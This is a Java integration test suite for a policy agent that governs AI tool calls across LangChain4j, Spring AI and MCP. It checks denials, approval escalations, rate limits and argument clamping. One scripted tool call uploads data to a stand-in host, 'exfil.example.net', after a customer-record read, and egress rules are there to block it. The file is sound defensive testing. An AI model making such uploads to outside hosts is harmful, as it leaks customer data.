package dev.warden.agent.it;

import static dev.warden.examples.mockmodel.Script.call;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.warden.agent.it.apps.McpClientApp;
import dev.warden.agent.it.apps.SpringMcpToolApp;
import dev.warden.agent.it.apps.SpringToolApp;
import dev.warden.agent.it.apps.ToolApp;
import dev.warden.examples.mockmodel.RecordedToolResult;
import dev.warden.examples.mockmodel.Script;
import dev.warden.examples.mockmodel.ScriptedModelServer;
import dev.warden.rules.evidence.EvidenceRecord;
import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * LangChain4j tool calls under the built agent, against the scripted mock model on loopback: an
 * allowed tool runs; a denied one does not and the model receives {@code Blocked by policy
 * <rule>: ...}; {@code args.amount gt 500} escalates (denied with {@code approvals=deny}, run
 * with {@code approvals=allow}); a rate limit blocks the third e-mail; the DESIGN.md egress and
 * exfiltration rules deny the tool's POST to an outside host after a customer read while the
 * model's own traffic ({@code parent: model}) still goes through. Evidence carries the session
 * (the chat memory id), the tool as {@code parent} of its SQL (run in a CompletableFuture async
 * stage on a pool thread) and HTTP (on a thread, a virtual thread on JDK 25, started inside the
 * tool), rule and outcome. The same for Spring AI, the MCP Java SDK (client and server side),
 * {@code action: modify} and custom tools from {@code config=FILE}; the LangChain4j, Spring AI and
 * MCP client scenarios also run on JDK 25 when one is installed (skipped with a message otherwise).
 */
class ToolCallsIT {
    static final String POLICY = """
            version: 1
            name: tools-it
            default: allow
            rules:
              - id: big-refunds-need-approval
                match: { kind: tool, tool: issueRefund, args.amount: { gt: 500 } }
                action: escalate
                approval: { timeout: 2s, on_timeout: deny }
              - id: egress-allowlist
                match: { kind: http, parent: { not: model }, host: { not: ["payments.internal.example", "*.corp.example"] } }
                action: deny
              - id: no-export-after-customer-read
                match: { kind: http, parent: { not: model }, method: [POST, PUT], host: { not: ["*.corp.example"] } }
                after: { kind: sql, tables: customers, operation: SELECT }
                action: deny
              - id: email-rate
                match: { kind: tool, tool: sendEmail }
                limit: { max: 2, per: 1h, scope: session }
                action: deny
              - id: no-account-deletion
                match: { kind: tool, tool: deleteAccount }
                action: deny
            """;

    @TempDir
    Path tmp;

    static String toolsClasspath() throws Exception {
        return System.getProperty("warden.it.classes") + File.pathSeparator
                + Files.readString(AgentRun.libs().resolve("classpath-tools.txt"), StandardCharsets.UTF_8).trim();
    }

    /** One forked agent application and what it left: its output, what the mock model received, the evidence. */
    record Run(AgentRun.Result result, ScriptedModelServer model, Evidence evidence) {
        /** The tool result the model received for {@code tool} called with arguments containing {@code argsFragment}. */
        String toolResult(String tool, String argsFragment) {
            return model.toolResults().stream().filter(t -> t.toolName().equals(tool) && t.arguments().contains(argsFragment)).findFirst()
                    .map(RecordedToolResult::content)
                    .orElseThrow(() -> new AssertionError("the model never received a result of " + tool + " " + argsFragment + ": " + model.toolResults()));
        }

        List<String> toolsRan() {
            return result.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
        }
    }

    /**
     * Runs {@code app} (a tool application taking the model's base URL and a session id) under the
     * agent with {@code policyText}, against a mock model playing {@code script}; {@code java}
     * null runs the build's JDK. Asserts the application exited normally.
     */
    Run run(Class<?> app, String policyText, Script script, String session, String agentArgs, Path java, String... appArgs) throws Exception {
        String name = app.getSimpleName() + "-" + Math.abs(System.nanoTime() % 100000);
        Path policy = Files.writeString(tmp.resolve(name + ".yaml"), policyText);
        Path evidence = tmp.resolve("evidence-" + name);
        AgentRun.Result r;
        try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
            AgentRun run = new AgentRun()
                    .agent("policy=" + policy + ",agent=tools-it,evidence=" + evidence + (agentArgs.isEmpty() ? "" : "," + agentArgs))
                    .main(app, Stream.concat(Stream.of(model.baseUrl(), session), Stream.of(appArgs)).toArray(String[]::new));
            run.classpath = toolsClasspath();
            if (java != null) {
                run.java = java;
            }
            r = run.run();
            assertEquals(0, r.exit(), r::toString);
            assertTrue(model.errors().isEmpty(), model.errors()::toString);
            return new Run(r, model, Evidence.read(evidence));
        }
    }

    /** A JDK 25 under /usr/lib/jvm, or the test is skipped with a line on stderr saying so. */
    static Path jdk25(String test) {
        java.util.Optional<Path> jdk25 = AgentRun.jdk25();
        if (jdk25.isEmpty()) {
            System.err.println(test + ": SKIPPED — no JDK 25 under /usr/lib/jvm (a directory whose release file says JAVA_VERSION=\"25...\")");
        }
        Assumptions.assumeTrue(jdk25.isPresent(), "no JDK 25 under /usr/lib/jvm");
        return jdk25.get();
    }

    /** Every tool decision carries the framework's session, its source and the framework. */
    static void assertToolSessions(Evidence ev, int count, String session, String source, String framework) {
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(count, tools.size(), ev.dump());
        for (EvidenceRecord d : tools) {
            assertEquals(session, d.session, d.toString());
            assertEquals(source, d.sessionSource, d.toString());
            assertEquals(framework, d.attributes.get("framework"), d.toString());
        }
    }

    @Test
    void toolsAreGovernedAndTheModelStillAnswers() throws Exception {
        Run run = scenario(null);
        assertEquals("false", run.result().value("http on a virtual thread"));
    }

    /** JDK 25: the same, with the upload on a virtual thread started inside the tool. */
    @Test
    void onJdk25WithAVirtualThread() throws Exception {
        Run run = scenario(jdk25("ToolCallsIT.onJdk25WithAVirtualThread"));
        assertEquals("true", run.result().value("http on a virtual thread"));
    }

    private Run scenario(Path java) throws Exception {
        Script script = Script.builder()
                .toolCalls(call("lookupCustomer", "{\"id\":\"c1\"}"))
                .toolCalls(call("sendReport", "{\"url\":\"http://exfil.example.net/upload\"}"))
                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"))
                .toolCalls(call("issueRefund", "{\"orderId\":\"o2\",\"amount\":100}"))
                .toolCalls(call("sendEmail", "{\"to\":\"a@x\"}"), call("sendEmail", "{\"to\":\"b@x\"}"), call("sendEmail", "{\"to\":\"c@x\"}"))
                .toolCalls(call("deleteAccount", "{\"id\":\"c1\"}"))
                .text("done")
                .build();
        Run run = run(ToolApp.class, POLICY, script, "session-42", "approvals=deny", java);
        AgentRun.Result r = run.result();
        assertEquals("done", r.value("answer"), r::toString);
        assertEquals("true", r.value("sql on another thread"));
        assertEquals(List.of("tool ran: lookupCustomer c1", "tool ran: sendReport http://exfil.example.net/upload",
                "tool ran: issueRefund o2 100.0", "tool ran: sendEmail a@x", "tool ran: sendEmail b@x"), run.toolsRan(), r::toString);

        // what the model saw
        assertTrue(run.toolResult("issueRefund", "o1").startsWith("Blocked by policy big-refunds-need-approval: "), r::toString);
        assertEquals("refunded 100.0", run.toolResult("issueRefund", "o2"));
        assertTrue(run.toolResult("sendEmail", "c@x").startsWith("Blocked by policy email-rate: "), r::toString);
        assertTrue(run.toolResult("deleteAccount", "c1").startsWith("Blocked by policy no-account-deletion: "), r::toString);
        String upload = run.toolResult("sendReport", "exfil");
        assertTrue(upload.startsWith("upload failed: Blocked by policy "), upload);

        Evidence ev = run.evidence();
        // tool decisions: session from the chat memory id, rule and outcome; one per call (the @Tool methods the framework invokes are not counted again)
        assertToolSessions(ev, 8, "session-42", "langchain4j-memory-id", "langchain4j");
        for (EvidenceRecord d : ev.decisions(d -> "tool".equals(d.kind))) {
            assertTrue(d.argsDigest != null && d.argsDigest.startsWith("hmac-sha256:"), d.toString());
            assertFalse(d.toString().contains("o1\""), "tool arguments reached the evidence in clear: " + d);
        }
        EvidenceRecord escalated = ev.decisions(d -> "issueRefund".equals(d.target) && d.rules.contains("big-refunds-need-approval")).get(0);
        assertEquals("deny", escalated.decision, escalated.toString());
        assertEquals("denied", escalated.approvalDecision, escalated.toString());
        assertEquals(null, ev.outcomeOf(escalated), "a blocked tool has no outcome");
        EvidenceRecord small = ev.decisions(d -> "issueRefund".equals(d.target) && d.rules.isEmpty()).get(0);
        assertEquals("allow", small.decision);
        assertEquals("ok", ev.outcomeOf(small).outcomeStatus, ev.dump());
        assertEquals(1, ev.decisions(d -> "sendEmail".equals(d.target) && "deny".equals(d.decision) && d.rules.contains("email-rate")).size(), ev.dump());
        assertEquals(1, ev.decisions(d -> "deleteAccount".equals(d.target) && "deny".equals(d.decision) && d.rules.contains("no-account-deletion")).size(), ev.dump());

        // the tool's SQL and HTTP carry the tool as parent and the tool's session
        EvidenceRecord select = ev.decisions(d -> "sql".equals(d.kind) && "lookupCustomer".equals(d.parent)).get(0);
        assertEquals("session-42", select.session, select.toString());
        EvidenceRecord exfil = ev.decisions(d -> "http".equals(d.kind) && d.target != null && d.target.contains("exfil.example.net")).get(0);
        assertEquals("deny", exfil.decision, exfil.toString());
        assertEquals("sendReport", exfil.parent, exfil.toString());
        assertEquals("session-42", exfil.session, exfil.toString());
        assertTrue(exfil.rules.contains("no-export-after-customer-read"), "the sequence rule across threads: " + exfil);

        // the model's own traffic: parent model, allowed before and after the customer read
        assertModelTrafficAllowed(ev, 7, "session-42");
        return run;
    }

    private static void assertModelTrafficAllowed(Evidence ev, int requests, String session) {
        List<EvidenceRecord> modelCalls = ev.decisions(d -> "http".equals(d.kind) && "model".equals(d.parent));
        assertEquals(requests, modelCalls.size(), ev.dump());
        for (EvidenceRecord d : modelCalls) {
            assertEquals("allow", d.decision, d.toString());
            assertEquals(session, d.session, d.toString());
        }
    }

    @Test
    void anApprovedEscalationRuns() throws Exception {
        Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}")).text("refunded").build();
        Run run = run(ToolApp.class, POLICY, script, "session-42", "approvals=allow", null);
        assertEquals(List.of("tool ran: issueRefund o1 600.0"), run.toolsRan(), run.result()::toString);
        assertEquals("refunded 600.0", run.toolResult("issueRefund", "o1"));
        EvidenceRecord d = run.evidence().decisions(x -> "issueRefund".equals(x.target)).get(0);
        assertEquals("allow", d.decision, d.toString());
        assertTrue(d.rules.contains("big-refunds-need-approval"), d.toString());
        assertEquals("approved", d.approvalDecision, d.toString());
        assertEquals("approvals=allow", d.approver, d.toString());
        assertEquals("ok", run.evidence().outcomeOf(d).outcomeStatus, run.evidence().dump());
    }

    /** Spring AI: the same refusal path (the refusal text is the tool result), escalation and session. */
    @Test
    void springAiToolsAreGoverned() throws Exception {
        springAi(null);
    }

    /** The Spring AI scenario on JDK 25 (the smoke subset). */
    @Test
    void springAiOnJdk25() throws Exception {
        springAi(jdk25("ToolCallsIT.springAiOnJdk25"));
    }

    private void springAi(Path java) throws Exception {
        Script script = Script.builder()
                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"), call("issueRefund", "{\"orderId\":\"o2\",\"amount\":100}"),
                        call("deleteAccount", "{\"id\":\"c1\"}"))
                .text("done")
                .build();
        Run run = run(SpringToolApp.class, POLICY, script, "conversation-7", "approvals=deny", java);
        assertEquals("done", run.result().value("answer"), run.result()::toString);
        assertEquals(List.of("tool ran: issueRefund o2 100.0"), run.toolsRan(), run.result()::toString);
        assertTrue(run.toolResult("issueRefund", "o1").contains("Blocked by policy big-refunds-need-approval: "), run.model().toolResults()::toString);
        assertTrue(run.toolResult("deleteAccount", "c1").contains("Blocked by policy no-account-deletion: "), run.model().toolResults()::toString);
        Evidence ev = run.evidence();
        // one decision per call: the @Tool methods MethodToolCallback invokes are not counted again
        assertToolSessions(ev, 3, "conversation-7", "spring-ai-conversation-id", "spring-ai");
        assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
        assertModelTrafficAllowed(ev, 2, "conversation-7");
    }

    /**
     * Spring AI's MCP tool callbacks ({@code SyncMcpToolCallback} over the sync client,
     * {@code AsyncMcpToolCallback} over the async one, whose {@code Mono} Reactor may subscribe
     * elsewhere) in front of a real MCP server over stdio: the callback's call and the MCP client
     * call it makes are one user-level tool call, so exactly one decision (framework
     * {@code spring-ai}) and one outcome; a denied or escalated-and-refused callback call still never
     * reaches the server. An MCP call made from a {@code @Tool} method's body is its own call:
     * a {@code spring-ai} decision for the method and an {@code mcp} one for the call it makes.
     */
    @ParameterizedTest
    @ValueSource(strings = {"sync", "async"})
    void springAiMcpCallbacksAreOneDecisionPerCall(String client) throws Exception {
        Path markers = Files.createDirectories(tmp.resolve("markers-" + client));
        Script script = Script.builder()
                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"), call("issueRefund", "{\"orderId\":\"o2\",\"amount\":100}"),
                        call("deleteAccount", "{\"id\":\"c1\"}"))
                .toolCalls(call("forwardRefund", "{\"orderId\":\"o4\",\"amount\":50}"))
                .text("done")
                .build();
        Run run = run(SpringMcpToolApp.class, POLICY, script, "conversation-9", "approvals=deny", null, markers.toString(), toolsClasspath(), client);
        AgentRun.Result r = run.result();
        assertEquals("done", r.value("answer"), r::toString);
        String callbackType = "sync".equals(client) ? "SyncMcpToolCallback" : "AsyncMcpToolCallback";
        assertTrue(r.stdout().contains("callback: " + callbackType + " issueRefund"), r::toString);

        // what the server ran and what the model saw
        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the refused refund reached the server");
        assertTrue(Files.exists(markers.resolve("issueRefund-o2")), "the allowed refund never ran");
        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion reached the server");
        assertTrue(Files.exists(markers.resolve("issueRefund-o4")), "the forwarded refund never ran");
        assertTrue(run.toolResult("issueRefund", "o1").contains("Blocked by policy big-refunds-need-approval: "), run.model().toolResults()::toString);
        assertTrue(run.toolResult("issueRefund", "o2").contains("issueRefund done"), run.model().toolResults()::toString);
        assertTrue(run.toolResult("deleteAccount", "c1").contains("Blocked by policy no-account-deletion: "), run.model().toolResults()::toString);

        Evidence ev = run.evidence();
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(5, tools.size(), ev.dump());
        // the callback calls: one decision each, framework spring-ai, none recorded again by the MCP client hook
        List<EvidenceRecord> refunds = ev.decisions(d -> "tool".equals(d.kind) && "issueRefund".equals(d.target) && !"forwardRefund".equals(d.parent));
        assertEquals(2, refunds.size(), ev.dump());
        refunds.forEach(d -> assertEquals("spring-ai", d.attributes.get("framework"), d.toString()));
        EvidenceRecord refused = refunds.stream().filter(d -> d.rules.contains("big-refunds-need-approval")).findFirst().orElseThrow(() -> new AssertionError(ev.dump()));
        assertEquals("deny", refused.decision, refused.toString());
        assertEquals("denied", refused.approvalDecision, refused.toString());
        assertEquals(null, ev.outcomeOf(refused), "a refused tool call has no outcome");
        EvidenceRecord allowed = refunds.stream().filter(d -> d.rules.isEmpty()).findFirst().orElseThrow(() -> new AssertionError(ev.dump()));
        assertEquals("allow", allowed.decision, allowed.toString());
        assertEquals("conversation-9", allowed.session, allowed.toString());
        assertEquals("ok", ev.outcomeOf(allowed).outcomeStatus, ev.dump());
        EvidenceRecord deletion = ev.decisions(d -> "deleteAccount".equals(d.target)).get(0);
        assertEquals("spring-ai", deletion.attributes.get("framework"), deletion.toString());
        assertEquals("deny", deletion.decision, deletion.toString());
        // the @Tool method and the MCP call its body made: two calls, two decisions
        EvidenceRecord forward = ev.decisions(d -> "forwardRefund".equals(d.target)).get(0);
        assertEquals("spring-ai", forward.attributes.get("framework"), forward.toString());
        List<EvidenceRecord> inner = ev.decisions(d -> "tool".equals(d.kind) && "forwardRefund".equals(d.parent));
        assertEquals(1, inner.size(), ev.dump());
        assertEquals("issueRefund", inner.get(0).target, ev.dump());
        assertEquals("mcp", inner.get(0).attributes.get("framework"), ev.dump());
        assertEquals("allow", inner.get(0).decision, ev.dump());
        assertEquals("conversation-9", inner.get(0).session, ev.dump());
    }

    /**
     * {@link McpClientApp} (MCP Java SDK sync client) calling {@link dev.warden.agent.it.apps.McpServerApp} over stdio;
     * {@code clientAgent}/{@code serverAgent}: the agent arguments of the client JVM and the
     * {@code -javaagent} option of the server JVM (either null). Asserts what both sides see.
     */
    private Evidence mcp(String clientAgent, String serverAgent, Path java) throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path evidence = tmp.resolve("evidence");
        Path markers = Files.createDirectories(tmp.resolve("markers"));
        String agentArgs = "policy=" + policy + ",evidence=" + evidence + ",approvals=deny,agent=";
        AgentRun run = serverAgent == null
                ? new AgentRun().agent(agentArgs + clientAgent).main(McpClientApp.class, markers.toString(), toolsClasspath())
                : new AgentRun().main(McpClientApp.class, markers.toString(), toolsClasspath(),
                        "-javaagent:" + AgentRun.agentJar() + "=" + agentArgs + serverAgent);
        run.classpath = toolsClasspath();
        if (java != null) {
            run.java = java;
        }
        AgentRun.Result r = run.run();
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.value("big refund").startsWith("error=true Blocked by policy big-refunds-need-approval: "), r::toString);
        assertTrue(r.value("small refund").startsWith("error=false issueRefund done"), r::toString);
        assertTrue(r.value("delete").startsWith("error=true Blocked by policy no-account-deletion: "), r::toString);
        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the denied refund ran on the server");
        assertTrue(Files.exists(markers.resolve("issueRefund-o2")), "the allowed refund never ran");
        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion ran on the server");
        Evidence ev = Evidence.read(evidence);
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(3, tools.size(), ev.dump());
        tools.forEach(d -> assertEquals("mcp", d.attributes.get("framework"), d.toString()));
        assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
        assertEquals("ok", ev.outcomeOf(ev.decisions(d -> "issueRefund".equals(d.target) && "allow".equals(d.decision)).get(0)).outcomeStatus, ev.dump());
        return ev;
    }

    /** MCP Java SDK client calling a real MCP server (a forked JVM over stdio, no agent in it). */
    @Test
    void mcpClientToolCallsAreGoverned() throws Exception {
        assertMcpClientSessions(mcp("mcp-it", null, null));
    }

    /** The MCP client scenario on JDK 25 (the smoke subset). */
    @Test
    void mcpClientOnJdk25() throws Exception {
        assertMcpClientSessions(mcp("mcp-it", null, jdk25("ToolCallsIT.mcpClientOnJdk25")));
    }

    private static void assertMcpClientSessions(Evidence ev) {
        for (EvidenceRecord d : ev.decisions(x -> "tool".equals(x.kind))) {
            assertEquals("mcp-client", d.sessionSource, d.toString());
            assertTrue(d.session.startsWith("mcp-client:"), d.toString());
        }
    }

    /** MCP server side: the server JVM runs under the agent and refuses the tool calls itself. */
    @Test
    void mcpServerToolCallsAreGoverned() throws Exception {
        Evidence ev = mcp(null, "mcp-server-it", null);
        ev.decisions(d -> "tool".equals(d.kind)).forEach(d -> assertEquals("mcp-session", d.sessionSource, d.toString()));
    }

    static final String CLAMP = """
            version: 1.1
            name: tools-modify-it
            default: allow
            rules:
              - id: clamp-refunds
                match: { kind: tool, tool: issueRefund }
                action: modify
                modify: { args.amount: { max: 500 } }
            """;

    /** {@code action: modify} on tool arguments: the tool runs with the clamped amount, in LangChain4j and Spring AI. */
    @ParameterizedTest
    @ValueSource(classes = {ToolApp.class, SpringToolApp.class})
    void modifiedArgumentsReachTheTool(Class<?> app) throws Exception {
        Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o9\",\"amount\":900}")).text("done").build();
        Run run = run(app, CLAMP, script, "session-m", "", null);
        assertEquals(List.of("tool ran: issueRefund o9 500.0"), run.toolsRan(), run.result()::toString);
        assertEquals("refunded 500.0", run.toolResult("issueRefund", "o9").replace("\"", ""));
        EvidenceRecord d = run.evidence().decisions(x -> "issueRefund".equals(x.target)).get(0);
        assertEquals("modify", d.decision, d.toString());
        assertTrue(d.rules.contains("clamp-refunds"), d.toString());
        assertEquals("ok", run.evidence().outcomeOf(d).outcomeStatus, run.evidence().dump());
    }

    /**
     * {@code approvals=collector} with a collector nobody answers on: the escalated refund waits
     * for the rule's 2 s timeout on the calling thread, then {@code on_timeout: deny} blocks it.
     */
    @Test
    void aTimedOutEscalationIsBlocked() throws Exception {
        Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}")).text("done").build();
        Run run = run(ToolApp.class, POLICY, script, "session-t", "collector=127.0.0.1:9,approvals=collector", null);
        assertEquals(List.of(), run.toolsRan(), run.result()::toString);
        assertTrue(run.toolResult("issueRefund", "o1").startsWith("Blocked by policy big-refunds-need-approval: "), run.model().toolResults()::toString);
        EvidenceRecord d = run.evidence().decisions(x -> "issueRefund".equals(x.target)).get(0);
        assertEquals("deny", d.decision, d.toString());
        assertTrue(List.of("timeout", "unavailable").contains(d.approvalDecision), d.toString());
        assertTrue(d.approvalWaitedMs >= 1500, "the call did not wait for the approval timeout: " + d);
        assertEquals(null, d.approver, d.toString());
    }

    /** A custom tool ({@code class#method} from {@code config=FILE}): arguments by parameter name; a denial is the block exception. */
    @Test
    void customToolsFromTheConfigFileAreGoverned() throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path config = Files.writeString(tmp.resolve("warden.yaml"), """
                tools:
                  - hook: com.acme.payments.Payments#refund
                    name: issueRefund
                """);
        Path evidence = tmp.resolve("evidence");
        AgentRun run = new AgentRun()
                .agent("policy=" + policy + ",agent=custom-it,evidence=" + evidence + ",approvals=deny,config=" + config)
                .main(com.acme.payments.Payments.class);
        run.classpath = toolsClasspath();
        AgentRun.Result r = run.run();
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.value("result o1").startsWith("blocked dev.warden.agent.bootstrap.BlockedIOException Blocked by policy big-refunds-need-approval: "), r::toString);
        assertEquals("refunded 100.0", r.value("result o2"), r::toString);
        assertFalse(r.stdout().contains("tool ran: refund o1"), r::toString);
        Evidence ev = Evidence.read(evidence);
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(2, tools.size(), ev.dump());
        tools.forEach(d -> assertEquals("custom", d.attributes.get("framework"), d.toString()));
        assertEquals("deny", tools.get(0).decision, ev.dump());
        assertEquals("allow", tools.get(1).decision, ev.dump());
        assertEquals("ok", ev.outcomeOf(tools.get(1)).outcomeStatus, ev.dump());
    }
}
